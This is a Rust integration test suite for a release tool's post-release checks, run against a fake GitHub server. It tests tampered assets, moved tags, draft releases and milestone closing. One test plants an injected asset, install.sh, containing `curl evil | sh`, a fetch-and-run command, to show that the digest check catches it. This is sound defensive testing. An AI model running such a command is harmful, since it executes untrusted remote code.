//! `cargo xtask post-release`: a real release of the example project (git with a bare origin,
//! the fake GitHub, the real `xtask-github`), then the post-release checks — a clean pass, each
//! verification failing for its own reason, the milestone, and re-runs that change nothing.
//! Build `cargo build -p github --bin xtask-github` first.

#[path = "release/support.rs"]
#[allow(dead_code)]
mod support;

use std::collections::BTreeMap;
use std::process::Command;

use fake_github::{FakeGithub, Issue, Release};
use serde_json::Value;
use support::{github_bin, Fixture, Run};

const TOKEN: &str = "xtask-test-token-PostRelease0123456789abcdef";
const OWNER: &str = "tzervas";
const REPO: &str = "codemate-hub";
const FLOWS: &str = "docs/langflow/examples/*.json";
const TARBALL: &str = "codemate-hub-v0.5.0.tar.gz";

/// `xtask <command> ARGS` on the fixture, pointed at the fake GitHub.
fn xtask(f: &Fixture, gh: &FakeGithub, command: &str, args: &[&str]) -> Run {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
    cmd.arg("--project").arg(f.path()).arg(command).args(args);
    github_env(f, gh, &mut cmd);
    let run = f.run(&mut cmd);
    assert!(
        !run.stdout.contains(TOKEN) && !run.stderr.contains(TOKEN),
        "the token leaked: {run:?}"
    );
    run
}

/// The fixture's environment, pointed at the fake GitHub.
fn github_env(f: &Fixture, gh: &FakeGithub, cmd: &mut Command) {
    f.env(cmd);
    cmd.env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_REPOSITORY", format!("{OWNER}/{REPO}"))
        .env("GITHUB_API_URL", gh.api_url())
        .env("XTASK_GITHUB_BIN", github_bin())
        .env("XTASK_GITHUB_RETRY_MS", "1")
        .env("XTASK_GITHUB_DEADLINE_S", "20")
        .env_remove("GITHUB_ACTIONS");
}

/// The example project released as 0.5.0 (with the flows as extra assets).
fn released() -> (Fixture, FakeGithub) {
    let f = Fixture::new();
    let gh = FakeGithub::start(OWNER, REPO, TOKEN);
    let run = xtask(
        &f,
        &gh,
        "release",
        &["0.5.0", "--skip-gate", "--asset", FLOWS, "--execute"],
    );
    assert_eq!(run.code, 0, "{run:?}");
    (f, gh)
}

fn post_release(f: &Fixture, gh: &FakeGithub, extra: &[&str]) -> (Run, Value) {
    let mut args = vec!["0.5.0", "--asset", FLOWS, "--format", "json"];
    args.extend_from_slice(extra);
    let run = xtask(f, gh, "post-release", &args);
    let doc = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|err| panic!("stdout is not JSON ({err}): {run:?}"));
    (run, doc)
}

/// `id -> (status, reason)` of every check.
fn checks(doc: &Value) -> BTreeMap<String, (String, String)> {
    doc["checks"]
        .as_array()
        .expect("a checks array")
        .iter()
        .map(|c| {
            (
                c["id"].as_str().unwrap().to_string(),
                (
                    c["status"].as_str().unwrap().to_string(),
                    c["reason"].as_str().unwrap_or("").to_string(),
                ),
            )
        })
        .collect()
}

/// The checks that failed or are blocked.
fn not_passing(doc: &Value) -> Vec<String> {
    checks(doc)
        .into_iter()
        .filter(|(_, (status, _))| status == "fail" || status == "blocked")
        .map(|(id, _)| id)
        .collect()
}

/// Asserts exactly `ids` fail, the first with a reason containing `words`.
fn fails_for(doc: &Value, run: &Run, ids: &[&str], words: &str) {
    assert_eq!(not_passing(doc), ids, "{run:?}");
    let reason = &checks(doc)[ids[0]].1;
    assert!(reason.contains(words), "{}: {reason}", ids[0]);
    assert_eq!(run.code, 1, "{run:?}");
}

fn mutations(gh: &FakeGithub) -> Vec<String> {
    gh.requests()
        .into_iter()
        .filter(|r| r.method != "GET")
        .map(|r| r.line())
        .collect()
}

#[test]
fn a_clean_release_verifies_then_execute_records_it_once() {
    let (f, gh) = released();
    let milestone = gh.add_milestone("v0.5.0", true);
    gh.add_issue(Issue::new("shipped", "closed").in_milestone(milestone));
    let before = (f.snapshot(), mutations(&gh));

    let (plan, doc) = post_release(&f, &gh, &["--next-milestone", "0.6.0"]);
    assert_eq!(plan.code, 0, "{plan:?}");
    let found = checks(&doc);
    for id in [
        "github-release",
        "release-latest",
        "release-notes",
        "tag-pushed",
        "changelog-on-main",
        "version-at-tag",
        "asset-digests",
        "assets-reproducible",
        "docs-archived",
    ] {
        assert_eq!(found[id].0, "pass", "{id}: {:?}", found[id]);
    }
    let rebuilt = &found["assets-reproducible"].1;
    assert!(rebuilt.contains("byte for byte"), "{rebuilt}");
    let flows = std::fs::read_dir(f.path().join("docs/langflow/examples"))
        .unwrap()
        .count();
    assert!(
        rebuilt.contains(&format!("{flows} --asset file")),
        "{rebuilt}"
    );
    for id in ["docs-deployed", "docker-images", "models-doc"] {
        assert_eq!(found[id].0, "skipped", "{id}: {:?}", found[id]);
    }
    for id in [
        "notes-sent",
        "monitor-logs",
        "announce",
        "thank-contributors",
    ] {
        assert_eq!(found[id].0, "manual", "{id}");
    }
    assert!(
        found["thank-contributors"].1.contains("since v0.4.0"),
        "{:?}",
        found["thank-contributors"]
    );
    assert_eq!(found["milestone-closed"].0, "skipped", "planned");
    assert!(found["milestone-closed"]
        .1
        .contains("close milestone v0.5.0"));
    assert_eq!(
        (f.snapshot(), mutations(&gh)),
        before,
        "the plan changes nothing"
    );
    // Same report shape as pre-release: merge-reports reads it.
    assert_eq!(doc["target_version"], "0.5.0");
    assert_eq!(doc["summary"]["fail"], 0);
    // The planned actions are typed (docs/json.md): the GitHub call and its target.
    let step = |name: &str| {
        let steps = doc["steps"].as_array().unwrap();
        steps.iter().find(|s| s["name"] == name).cloned().unwrap()
    };
    let close = &step("milestone-closed")["actions"][0];
    assert_eq!(
        (
            &close["op"],
            &close["call"],
            &close["title"],
            &close["repo"]
        ),
        (
            &"github".into(),
            &"close_milestone".into(),
            &"v0.5.0".into(),
            &format!("{OWNER}/{REPO}").into()
        )
    );
    assert!(close["number"].is_u64(), "{close}");
    let push = step("record")["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["args"][0] == "push")
        .cloned()
        .expect("the record is pushed");
    assert_eq!(
        push["args"],
        serde_json::json!([
            "push",
            "--atomic",
            "origin",
            "refs/heads/main:refs/heads/main"
        ])
    );

    let (run, doc) = post_release(
        &f,
        &gh,
        &[
            "--next-milestone",
            "0.6.0",
            "--execute",
            "--sign-off",
            "announce",
        ],
    );
    assert_eq!(run.code, 0, "{run:?}");
    let found = checks(&doc);
    assert_eq!(found["milestone-closed"].0, "pass");
    assert_eq!(found["next-milestone"].0, "pass");
    assert!(found["announce"].1.starts_with("signed off by"));
    let milestones = gh.milestones();
    assert_eq!(milestones[0].state, "closed");
    assert_eq!(milestones[1].title, "v0.6.0");
    let subject = f.repo.git_origin(&["log", "-1", "--format=%s", "main"]);
    assert_eq!(subject, "Record post-release of v0.5.0");
    let record = f.repo.read("trackers/releases/v0.5.0.md");
    assert!(record.contains("- [x] Release verified — "), "{record}");
    assert!(
        record.contains("- [x] Issues/milestones closed — "),
        "{record}"
    );
    assert!(record.contains("- [x] Next release planned — "), "{record}");
    assert!(record.contains("| announce | communication | manual | signed off by"));
    assert!(record.contains("### Pre-release gate"), "the rest is kept");

    // A re-run (without the sign-off) changes nothing: no commit, no GitHub change.
    let after = (f.snapshot(), mutations(&gh));
    let (again, doc) = post_release(&f, &gh, &["--next-milestone", "0.6.0", "--execute"]);
    assert_eq!(again.code, 0, "{again:?}");
    assert_eq!((f.snapshot(), mutations(&gh)), after, "{again:?}");
    let record_step = doc["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "record")
        .unwrap();
    assert_eq!(record_step["status"], "done", "{record_step}");

    // For a person: the table, the steps, the verdict.
    let human = xtask(&f, &gh, "post-release", &["0.5.0", "--asset", FLOWS]);
    assert_eq!(human.code, 0, "{human:?}");
    assert!(human.stdout.contains("assets-reproducible"), "{human:?}");
    assert!(
        human.stdout.contains("post-release v0.5.0: verified"),
        "{human:?}"
    );
}

#[test]
fn a_draft_fails_github_release() {
    let (f, gh) = released();
    gh.edit_release("v0.5.0", |r| r.draft = true);
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["github-release", "release-latest"],
        "is a draft",
    );
    assert!(checks(&doc)["release-latest"]
        .1
        .contains("see `github-release`"));
}

#[test]
fn a_wrong_latest_fails_release_latest() {
    let (f, gh) = released();
    gh.add_release(Release::new("v0.4.0", false));
    gh.set_latest("v0.4.0");
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["release-latest"],
        "GitHub's latest release is v0.4.0",
    );
}

#[test]
fn a_tampered_asset_fails_the_digests_and_the_rebuild() {
    let (f, gh) = released();
    gh.replace_asset("v0.5.0", TARBALL, b"not the release\n");
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["asset-digests", "assets-reproducible"],
        "SHA256SUMS says",
    );
    assert!(checks(&doc)["assets-reproducible"].1.contains(TARBALL));
}

#[test]
fn a_digest_mismatch_fails_asset_digests() {
    let (f, gh) = released();
    let wrong = format!("sha256:{}", "0".repeat(64));
    gh.edit_release("v0.5.0", |r| {
        r.assets
            .iter_mut()
            .find(|a| a.name == TARBALL)
            .unwrap()
            .digest = wrong.clone()
    });
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["asset-digests"],
        &format!("GitHub reports {wrong}"),
    );
}

#[test]
fn an_extra_asset_fails_asset_digests() {
    let (f, gh) = released();
    gh.add_asset("v0.5.0", "install.sh", b"curl evil | sh\n");
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["asset-digests"],
        "install.sh: not listed in SHA256SUMS",
    );
}

#[test]
fn a_moved_tag_fails_tag_pushed() {
    let (f, gh) = released();
    f.repo.write("src/later.py", "\"\"\"Later.\"\"\"\n");
    f.repo.commit_all("later");
    f.repo
        .git(&["tag", "-f", "-a", "v0.5.0", "-m", "moved", "HEAD"]);
    f.repo.git(&[
        "push",
        "--quiet",
        "--force",
        "origin",
        "main",
        "refs/tags/v0.5.0",
    ]);
    let (run, doc) = post_release(&f, &gh, &[]);
    let failing = not_passing(&doc);
    assert!(failing.contains(&"tag-pushed".to_string()), "{run:?}");
    assert!(
        checks(&doc)["tag-pushed"].1.contains("the tag was moved"),
        "{run:?}"
    );
    assert_eq!(run.code, 1);
}

#[test]
fn a_tag_missing_on_origin_fails_tag_pushed() {
    let (f, gh) = released();
    f.repo
        .git(&["push", "--quiet", "origin", ":refs/tags/v0.5.0"]);
    let (run, doc) = post_release(&f, &gh, &[]);
    assert_eq!(
        not_passing(&doc),
        ["models-doc", "tag-pushed", "version-at-tag"],
        "{run:?}"
    );
    assert!(checks(&doc)["tag-pushed"]
        .1
        .contains("origin has no tag v0.5.0"));
    assert!(checks(&doc)["version-at-tag"]
        .1
        .contains("see `tag-pushed`"));
    assert_eq!(run.code, 1);
}

#[test]
fn a_body_that_differs_fails_release_notes() {
    let (f, gh) = released();
    gh.edit_release("v0.5.0", |r| {
        r.body = Some("### Added\n- Something else\n".into())
    });
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["release-notes"],
        "differ from the CHANGELOG.md section for 0.5.0",
    );
}

#[test]
fn a_milestone_with_open_issues_is_listed_and_not_closed_without_the_flag() {
    let (f, gh) = released();
    let milestone = gh.add_milestone("0.5.0", true);
    gh.add_issue(Issue::new("still broken", "open").in_milestone(milestone));
    let (plan, doc) = post_release(&f, &gh, &[]);
    assert_eq!(plan.code, 0, "{plan:?}");
    let (status, reason) = &checks(&doc)["milestone-closed"];
    assert_eq!(status, "skipped");
    assert!(reason.contains("#1 still broken"), "{reason}");

    let before = (f.snapshot(), mutations(&gh), gh.milestones());
    let (refused, _) = post_release(&f, &gh, &["--execute"]);
    assert_eq!(refused.code, 2, "{refused:?}");
    assert!(refused
        .stderr
        .contains("error: milestone 0.5.0 has 1 open issue(s): #1 still broken"));
    assert!(refused.stderr.contains("hint: "), "{refused:?}");
    assert_eq!((f.snapshot(), mutations(&gh), gh.milestones()), before);

    // A next milestone that is not after the release is bad input, even when planning.
    let (bad, doc) = post_release(&f, &gh, &["--next-milestone", "0.4.0"]);
    assert_eq!(bad.code, 2, "{bad:?}");
    assert!(bad
        .stderr
        .contains("error: --next-milestone 0.4.0 is not after 0.5.0"));
    assert_eq!(doc["exit_code"], 2);

    let (run, doc) = post_release(&f, &gh, &["--execute", "--close-open-milestone"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(checks(&doc)["milestone-closed"].0, "pass");
    assert_eq!(gh.milestones()[0].state, "closed");
}

#[test]
fn without_a_token_the_github_checks_are_blocked_once() {
    let (f, gh) = released();
    let asked = gh.requests().len();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
    cmd.arg("--project")
        .arg(f.path())
        .args(["post-release", "0.5.0", "--format", "json"]);
    f.env(&mut cmd);
    cmd.env("XTASK_GITHUB_BIN", github_bin());
    let run = f.run(&mut cmd);
    assert_eq!(run.code, 1, "{run:?}");
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    let found = checks(&doc);
    assert_eq!(found["github-release"].0, "blocked");
    assert!(found["github-release"].1.contains("no GitHub token"));
    let naming: Vec<&String> = found
        .iter()
        .filter(|(_, (_, reason))| reason.contains("no GitHub token"))
        .map(|(id, _)| id)
        .collect();
    assert_eq!(naming, ["github-release"], "one reason per root cause");
    assert_eq!(
        gh.requests().len(),
        asked,
        "without a token GitHub is not asked"
    );
}

/// On a terminal `--execute` asks first, as every changing command does (the shared
/// `--execute`/`--yes`/`--format`); `n` changes nothing, `--yes` does not ask.
#[test]
fn a_terminal_is_asked_before_the_cleanup_unless_yes() {
    let script = std::path::Path::new("/usr/bin/script");
    assert!(
        script.exists(),
        "util-linux `script` gives the command a terminal"
    );
    let (f, gh) = released();
    let on_terminal = |extra: &str, answer: &str| {
        let line = format!(
            "{} --project {} post-release 0.5.0 --asset '{FLOWS}' --next-milestone 0.6.0 --execute {extra}",
            env!("CARGO_BIN_EXE_xtask"),
            f.path().display()
        );
        let mut cmd = Command::new(script);
        cmd.args(["-qec", &line, "/dev/null"]);
        github_env(&f, &gh, &mut cmd);
        cmd.stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(answer.as_bytes()).unwrap();
        drop(stdin);
        let out = child.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let before = (f.snapshot(), mutations(&gh));
    let refused = on_terminal("", "n\n");
    assert!(refused.contains("carry out this plan? [y/N]"), "{refused}");
    assert!(
        refused.contains("not confirmed: nothing was changed"),
        "{refused}"
    );
    assert_eq!((f.snapshot(), mutations(&gh)), before, "{refused}");

    let done = on_terminal("--yes", "");
    assert!(!done.contains("carry out this plan?"), "{done}");
    let subject = f.repo.git_origin(&["log", "-1", "--format=%s", "main"]);
    assert_eq!(subject, "Record post-release of v0.5.0", "{done}");
    assert!(
        gh.milestones().iter().any(|m| m.title == "v0.6.0"),
        "{done}"
    );
}
